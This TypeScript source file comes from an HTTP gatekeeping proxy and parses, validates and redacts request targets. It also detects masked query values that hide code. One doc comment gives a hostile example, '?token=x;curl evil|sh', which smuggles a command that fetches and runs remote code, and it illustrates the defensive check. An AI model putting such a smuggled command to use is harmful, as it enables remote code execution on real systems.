// The request target as Gatehouse sees it: the raw path (canonicalised before anything is decided,
// src/wire/http/canonical-path.ts) and query (forwarded as received), the path policy matches (the
// canonical path percent-decoded), and the text recorded, with secret-looking query values redacted.

import type { CanonicalPath } from '../../wire/http/canonical-path.js';
import type { FieldMatcher } from './field-names.js';
import { clipShown } from '../../core/visible-text.js';
import { stringViewHidesCode } from '../../masking/index.js';

export interface RequestTarget {
  /** Path as received, still percent-encoded. */
  readonly rawPath: string;
  /** Query string as received, without '?' ('' when none). */
  readonly rawQuery: string;
}

/**
 * Splits an origin-form request target (RFC 9112 §3.2.1). Any other form — absolute-form
 * (`http://host/x`), authority-form, asterisk-form (`*`), or a path starting with `//` (which URL
 * parsers read as `//authority/...`) — is refused with the reason, as are a fragment, whitespace,
 * controls and raw non-ASCII bytes anywhere in the target. The path is not canonicalised here.
 */
export function splitTarget(url: string | undefined): RequestTarget | { readonly refused: string } {
  if (url === undefined || url === '') return { refused: 'the request has no target' };
  if (!url.startsWith('/'))
    return {
      refused:
        'the request target is not a path (absolute-form, authority-form and "*" are not forwarded): send the path only',
    };
  if (url.startsWith('//'))
    return { refused: 'the request target starts with "//", which reads as a host name ("//host/…")' };
  if (!/^[\x21-\x7e]*$/.test(url))
    return {
      refused:
        'the request target has a space, a control character or a raw non-ASCII byte (percent-encode it)',
    };
  if (url.includes('#')) return { refused: 'the request target has a fragment ("#")' };
  const q = url.indexOf('?');
  return q < 0 ? { rawPath: url, rawQuery: '' } : { rawPath: url.slice(0, q), rawQuery: url.slice(q + 1) };
}

/**
 * The path policy matches: the canonical path percent-decoded (its segments cannot contain `/`, `.` or
 * `..`). `?` and `#` stay encoded, since policy cuts the path at them.
 */
export function policyPath(path: CanonicalPath): string {
  return path.decoded.replace(/\?/g, '%3F').replace(/#/g, '%23');
}

/** A request target that was refused, as it may be recorded: non-printable characters %-escaped, capped. */
export function printableTarget(url: string | undefined): string {
  // Node hands the request target over as latin1: every character is one byte of what was sent.
  // eslint-disable-next-line no-control-regex
  const text = (url ?? '').replace(/[\u0000-\u0020\u007f-\uffff]/g, (c) => {
    const code = c.charCodeAt(0);
    return code < 0x100 ? `%${code.toString(16).toUpperCase().padStart(2, '0')}` : `\\u${code.toString(16)}`;
  });
  return text.length > 2048 ? `${text.slice(0, 2048)}…` : text;
}

const AUTH_PARAMS = /^x-amz-(signature|credential|security-token)$/i;

/** `path?query` for records and messages: values of sensitive query parameters become [REDACTED]. */
export function recordedTarget(path: string, rawQuery: string, fields: FieldMatcher): string {
  if (rawQuery === '') return path;
  // Said in words: a bare "…" could be the end of the target itself (a decoded path may hold one),
  // and an approver shown this text approves the whole target.
  return clipShown(shownTarget(path, rawQuery, fields), RECORDED_TARGET_CHARS);
}

/**
 * The target as an approver is shown it: whole, with secret query values masked (recordedTarget is
 * its record's form, clipped). A reviewed request is bound to its whole target, so its approver sees
 * all of it: a tail past the record's clip was approvable unseen (docs/security.md class 278).
 */
export function shownTarget(path: string, rawQuery: string, fields: FieldMatcher): string {
  if (rawQuery === '') return path;
  const parts = rawQuery.split('&').map((part) => {
    const eq = part.indexOf('=');
    if (eq < 0) return part;
    let name: string;
    try {
      name = decodeURIComponent(part.slice(0, eq));
    } catch {
      name = part.slice(0, eq);
    }
    return AUTH_PARAMS.test(name) || fields(name) !== undefined ? `${part.slice(0, eq)}=[REDACTED]` : part;
  });
  return `${path}?${parts.join('&')}`;
}

/**
 * Where a query value the approver is shown as `[REDACTED]` holds more than a literal (whitespace, a line
 * break, what a shell or a template reads as code), read as the upstream's framework reads it (`+` a
 * blank, percent-escapes decoded); undefined when none does. As for a body (docs/security.md class 275),
 * the approver would approve a masked value that is a command (`?token=x;curl evil|sh`): such a
 * request is refused, not held (class 300). Says where, never what.
 */
export function targetHidesCode(rawQuery: string, fields: FieldMatcher): string | undefined {
  if (rawQuery === '') return undefined;
  for (const part of rawQuery.split('&')) {
    const eq = part.indexOf('=');
    if (eq < 0) continue;
    const name = decodeFormPart(part.slice(0, eq));
    if (!AUTH_PARAMS.test(name) && fields(name) === undefined) continue;
    const value = decodeFormPart(part.slice(eq + 1));
    const hidden = stringViewHidesCode(value, '', `the query parameter ${JSON.stringify(name.slice(0, 64))}`);
    if (hidden !== undefined) return hidden;
  }
  return undefined;
}

/**
 * One name or value of a form body or a query string, as the upstream's framework reads it: `+` a blank,
 * percent-escapes decoded; a malformed escape leaves the part undecoded, its `+` still read as a blank.
 */
export function decodeFormPart(s: string): string {
  const spaced = s.replace(/\+/g, ' ');
  try {
    return decodeURIComponent(spaced);
  } catch {
    return spaced;
  }
}

/** Characters of a request target kept in its record and shown to approvers. */
const RECORDED_TARGET_CHARS = 4096;
